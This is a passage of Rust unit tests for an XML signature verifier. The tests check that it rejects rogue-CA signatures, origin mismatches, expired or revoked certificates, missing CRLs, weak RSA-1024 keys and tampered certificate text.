        // A second PKI with the same names: the impostor issuing CA names the
        // real KZ root as its issuer, but the real root never signed it.
        case(
            "untrusted root: same-named rogue KZ PKI (with its issuing CA)",
            sign_as(rogue_kz, rogue_broker, false, &decl),
            Reject("certificate_signature_invalid", ncf),
        ),
        case(
            "untrusted root: rogue KZ broker without its issuing CA",
            with_key_info(
                &sign_as(rogue_kz, rogue_broker, false, &decl),
                &x509_data(&[&rogue_broker.cert_der]),
            ),
            Reject("untrusted_signer", ncf),
        ),
        case(
            "KZ signer declared from TR",
            s.clone(),
            Reject("untrusted_signer", ncf),
        )
        .origin("TR"),
        case(
            "KZ signer, declaration stating origin TR, submitted as from KZ",
            sign_as(
                country(&w.pki, "KZ"),
                broker(&w.pki, "KZ", BrokerKind::Ecdsa),
                false,
                &sample(&SampleSpec::new("TR", "AZ", 1, 2)),
            ),
            Reject("origin_mismatch", S::SigConstraintsFailure),
        ),
        case(
            "origin not in the trust list (UZ)",
            s.clone(),
            Reject("origin_not_trusted", ncf),
        )
        .origin("UZ"),
        case(
            "issuing CA missing from KeyInfo",
            with_key_info(
                &s,
                &x509_data(&[&broker(&w.pki, "KZ", BrokerKind::Ecdsa).cert_der]),
            ),
            Reject("untrusted_signer", ncf),
        ),
        case(
            "expired broker",
            by(BrokerKind::Expired),
            Reject("certificate_expired", S::OutOfBoundsNoPoe),
        ),
        case(
            "not yet valid (validated 2 days before issue)",
            s.clone(),
            Reject("certificate_not_yet_valid", S::NotYetValid),
        )
        .at(w.now - 2 * DAY),
        case(
            "revoked broker",
            by(BrokerKind::Revoked),
            Reject("certificate_revoked", S::Revoked),
        ),
        case(
            "broker without a signing key usage",
            by(BrokerKind::NoSigningKeyUsage),
            Reject("key_usage_not_allowed", S::ChainConstraintsFailure),
        ),
        case(
            "the issuing CA itself signs",
            {
                let ca = &kz.issuing;
                let out = sign_enveloped(
                    decl.as_bytes(),
                    &key_of(ca),
                    &SignOptions {
                        certificates: vec![ca.cert_der.clone()],
                        digest: DigestAlgorithm::Sha256,
                        xades: false,
                        signing_time: time::OffsetDateTime::from_unix_timestamp(w.now).unwrap(),
                        limits: ParseLimits::default(),
                    },
                )
                .unwrap();
                out
            },
            Reject("signer_is_ca", S::ChainConstraintsFailure),
        ),
        case(
            "issuing CA's CRL removed (Require)",
            s.clone(),
            Reject("revocation_unknown", S::TryLater),
        )
        .trust(Trust::NoIssuingCrl),
        case(
            "all KZ CRLs removed (Require)",
            s.clone(),
            Reject("revocation_unknown", S::TryLater),
        )
        .trust(Trust::NoCrls),
        case(
            "CRL stale (validated 40 days later)",
            s.clone(),
            Reject("crl_expired", S::TryLater),
        )
        .at(w.now + 40 * DAY),
        case(
            "RSA-1024 signer key",
            weak.clone(),
            Reject("weak_key", S::CryptoConstraintsFailure),
        ),
        // With the minimum lowered, the same fixture is intact and only its
        // (self-signed) certificate is refused: the signature is real.
        case(
            "RSA-1024 fixture under a 1024-bit policy",
            weak,
            Reject("untrusted_signer", ncf),
        )
        .policy(Policy {
            algorithms: tamga_policy::AlgorithmPolicy {
                min_rsa_bits: 1024,
                ..Default::default()
            },
            ..Policy::customs()
        }),
    ];
    run("trust", cases);
}

#[test]
fn weak_rsa_fixture_is_intact_and_unsignable() {
    // The fixture's signature value does verify (so weak_key is the only
    // reason it is refused) ...
    let w = world();
    let weak = std::fs::read(fixture("weak-rsa1024-signed.xml")).unwrap();
    let c = case("weak", weak, Pass).policy(Policy {
        algorithms: tamga_policy::AlgorithmPolicy {
            min_rsa_bits: 1024,
            ..Default::default()
        },
        ..Policy::customs()
    });
    let r = verify(&c);
    assert!(r.signature_intact, "{r:?}");
    assert_eq!(
        r.signer.as_ref().and_then(|s| s.key.as_deref()),
        Some("RSA-1024")
    );
    // ... and Tamga refuses to sign with such a key in the first place.
    let pem = std::fs::read(fixture("weak-rsa1024.key")).unwrap();
    assert!(SigningKey::from_pkcs8_pem(&pem).is_err());
    let _ = w;
}

/// A reference to the signature's own certificate is digest-checked and
/// listed with its target, and does not stand in for the document: tampering
/// with the signed certificate's text is a digest failure.
#[test]
fn key_info_reference_is_checked_and_reported() {
    let x = ecdsa_xades();
    let key = kz_ecdsa_key();
    let with_cert_id = replace1(
        &x,
        "<ds:X509Data><ds:X509Certificate>",
        "<ds:X509Data><ds:X509Certificate Id=\"signer-cert\">",
    );
    let exc_ref = format!(
        "<ds:Reference URI=\"#signer-cert\"><ds:Transforms><ds:Transform Algorithm=\"http://www.w3.org/2006/12/xml-c14n11\"></ds:Transform></ds:Transforms><ds:DigestMethod Algorithm=\"{SHA256}\"></ds:DigestMethod><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference>"
    );
    let doc = resign(
        &replace1(
            &with_cert_id,
            "</ds:SignedInfo>",
            &format!("{exc_ref}</ds:SignedInfo>"),
        ),
        &key,
    );
    let report = verify(&case("KeyInfo certificate reference", doc.clone(), Pass));
    assert_eq!(
        report.indication,
        Indication::TotalPassed,
        "{}",
        report.message
    );
    let targets: Vec<_> = report
        .references
        .iter()
        .map(|r| (r.target.as_deref(), r.intact))
        .collect();
    assert_eq!(
        targets,
        [
            (Some("document"), Some(true)),
            (Some("SignedProperties"), Some(true)),
            (Some("KeyInfo/X509Data/X509Certificate"), Some(true)),
        ]
    );
    // Line breaks in the base64 text: the certificate still decodes, the
    // digest of the signed element no longer matches.
    let cert_at = doc.find("Id=\"signer-cert\">").unwrap() + "Id=\"signer-cert\">".len();
    let tampered = format!("{}\n{}", &doc[..cert_at + 64], &doc[cert_at + 64..]);
    let report = verify(&case("tampered certificate text", tampered, Pass));
    assert_eq!(report.reason, Some("digest_mismatch"), "{}", report.message);
    assert_eq!(report.sub_indication, Some(SubIndication::HashFailure));
}
